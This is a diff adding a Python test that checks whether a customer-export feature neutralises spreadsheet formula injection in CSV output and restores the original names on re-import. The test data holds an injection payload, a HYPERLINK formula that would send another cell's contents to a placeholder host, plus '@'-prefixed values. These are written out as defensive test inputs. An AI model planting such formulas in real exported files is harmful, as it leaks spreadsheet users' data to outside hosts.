@@ -6,6 +6,7 @@ import io
 import os
 import random
 from collections.abc import Iterator
+from datetime import UTC, datetime
 from pathlib import Path
 from typing import Any
 from uuid import UUID
@@ -19,6 +20,7 @@ from schemas.topics import SHOP_EVENTS
 from services.customers import handlers
 from services.customers.events import ShopFact, read
 from services.customers.past.csv_file import Bookmark, PastFile
+from services.customers.past.shop_line import reader_of
 from services.kernel import Record, Refusal, Settings
 from services.kernel.publishing.publish import Publisher
 from tests.services.attached import attach
@@ -119,6 +121,25 @@ async def test_a_shops_customers_come_out_as_they_went_in(
     before = out
     await _keep(pool, store, await _sent(here, store))
     assert (await call("export", "customers", slug)).stdout == before
+
+
+async def test_what_a_customer_is_called_is_no_formula_in_a_sheet_and_comes_back(
+    here: Settings, pool: Pool, admin_pool: Pool, tmp_path: Path
+) -> None:
+    store = await attach(admin_pool)
+    names = {"c1": '=HYPERLINK("https://x.example?"&B2)', "c2": "'@x", "=c3": "Anna", "c4": None}
+    async with admin_pool.acquire() as conn:
+        for customer, name in names.items():
+            await conn.execute(
+                "insert into wootstream.customers (organization_id, customer_id, name, phone) values ($1, $2, $3, $4)",
+                store, customer, name, "+31612345678",
+            )  # fmt: skip
+    out = (await call("export", "customers", await _slug(admin_pool, store))).stdout
+    rows = list(csv.DictReader(io.StringIO(out)))
+    assert not [cell for row in rows for cell in row.values() if cell.startswith(("=", "@", "-"))]
+    assert {row["phone"] for row in rows} == {"+31612345678"}
+    read_in = [event["data"] for row in rows for event in reader_of([*row])(row, datetime.now(UTC))]
+    assert {one["customer_id"]: one.get("name") for one in read_in} == names
 
 
 @pytest.mark.usefixtures("topics")
